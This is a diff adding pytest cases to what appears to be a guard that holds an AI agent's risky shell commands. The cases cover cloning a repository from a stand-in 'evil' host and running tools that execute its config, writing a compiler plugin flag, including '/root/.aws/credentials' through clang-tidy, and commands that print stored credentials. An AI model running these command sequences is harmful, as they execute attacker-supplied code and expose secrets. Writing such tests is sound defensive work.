@@ -52,3 +52,30 @@ def test_held(line: str) -> None:
 ])
 def test_written_input_holds_the_reader(lines: tuple[str, ...]) -> None:
     held_last(*lines)
+
+
+# C1-C4: a tree the session cloned, unpacked or wrote holds every tool that loads it (yarn's
+# yarn-path, composer's event scripts, rust-toolchain's path, MSBuild targets, clang's compile
+# flags and includes, a pg_control link)
+@pytest.mark.parametrize("lines", [
+    ("git clone https://github.com/evil/r /tmp/r", "cd /tmp/r && yarn info react"),
+    ("git clone https://github.com/evil/r /tmp/r", "cd /tmp/r && composer why x/y"),
+    ("git clone https://github.com/evil/r /tmp/r", "cd /tmp/r && cargo pkgid"),
+    ("git clone https://github.com/evil/r /tmp/r", "cd /tmp/r && dotnet list package"),
+    ("git clone https://github.com/evil/r /tmp/r", "cd /tmp/r && clang-tidy src/a.c --"),
+    ("echo '-fplugin=/tmp/x.so' > compile_flags.txt", "clang-tidy src/a.c"),
+    ("echo '#include \"/root/.aws/credentials\"' > notes.txt", "clang-tidy notes.txt -- -xc"),
+    ("mkdir -p /tmp/pg && tar xf /tmp/x.tar -C /tmp/pg", "pg_controldata /tmp/pg"),
+])
+def test_written_tree_holds_its_loaders(lines: tuple[str, ...]) -> None:
+    held_last(*lines)
+
+
+# C3, C5, C6: printed credentials, and MySQL's DESC as EXPLAIN
+@pytest.mark.parametrize("line", [
+    "huggingface-cli scan-cache --dir /tmp/hfc -vvv", "gem env", "npm config get registry",
+    "mysql -e 'DESC ANALYZE DELETE t1 FROM t1 JOIN t2 ON t1.a = t2.a'",
+    "mysql -e 'DESCRIBE ANALYZE UPDATE t SET a = 1'",
+])
+def test_printed_credentials_and_desc_analyze_held(line: str) -> None:
+    held(line)
